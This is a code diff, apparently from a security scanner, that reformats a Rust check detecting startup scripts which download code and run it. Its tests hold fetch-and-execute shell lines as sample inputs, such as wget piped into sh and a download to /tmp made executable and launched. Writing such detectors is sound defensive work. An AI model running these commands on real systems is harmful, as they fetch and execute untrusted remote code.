@@ -20,8 +20,8 @@
 //! ATT&CK T1105.
 
 use crate::check::{Area, Check, Ctx, Hook, Out, Severity, Source};
-use crate::facts::fetch::{Fetch, fetch};
 use crate::facts::commands::{Commands, Role};
+use crate::facts::fetch::{Fetch, fetch};
 use crate::facts::startup::{Kind, Line};
 
 /// The row of the table.
@@ -69,9 +69,13 @@ fn takes_fetched_text(commands: &Commands, command: u16) -> bool {
 /// Whether a shell is given a script by name or by `-c`; then what a pipe gives it is data.
 fn has_own_script(commands: &Commands, command: u16) -> bool {
     let arguments = || commands.program(command).skip(1);
-    let flag = |word: &[u8], letter| word.first() == Some(&b'-') && !word.starts_with(b"--") && word.contains(&letter);
+    let flag = |word: &[u8], letter| {
+        word.first() == Some(&b'-') && !word.starts_with(b"--") && word.contains(&letter)
+    };
     let names_input = |word: &[u8]| {
-        word.starts_with(b"/dev/stdin") || word.starts_with(b"/dev/fd/") || word.starts_with(b"/proc/self/fd/")
+        word.starts_with(b"/dev/stdin")
+            || word.starts_with(b"/dev/fd/")
+            || word.starts_with(b"/proc/self/fd/")
     };
     if arguments().any(|word| flag(word, b's')) {
         return false;
@@ -88,8 +92,8 @@ fn feeds_no_other(commands: &Commands, command: u16) -> bool {
 
 #[cfg(test)]
 mod tests {
-    use crate::check::testing::startup;
     use super::*;
+    use crate::check::testing::startup;
     #[test]
     fn fetched_and_run() {
         for text in [
@@ -110,7 +114,12 @@ mod tests {
             b"wget -O- http://192.0.2.1/x | sh -c sh",
             b"sh -c 'wget -O- http://192.0.2.1/x' | sh",
         ] {
-            assert_eq!(startup(&CHECK, Kind::Shell, text), [(1, Severity::Infected)], "{}", String::from_utf8_lossy(text));
+            assert_eq!(
+                startup(&CHECK, Kind::Shell, text),
+                [(1, Severity::Infected)],
+                "{}",
+                String::from_utf8_lossy(text)
+            );
         }
         let lines = b"F=/tmp/x\nwget -O $F http://192.0.2.1/x\nchmod +x $F\n$F &\n";
         assert_eq!(startup(&CHECK, Kind::Shell, lines), [(4, Severity::Infected)]);
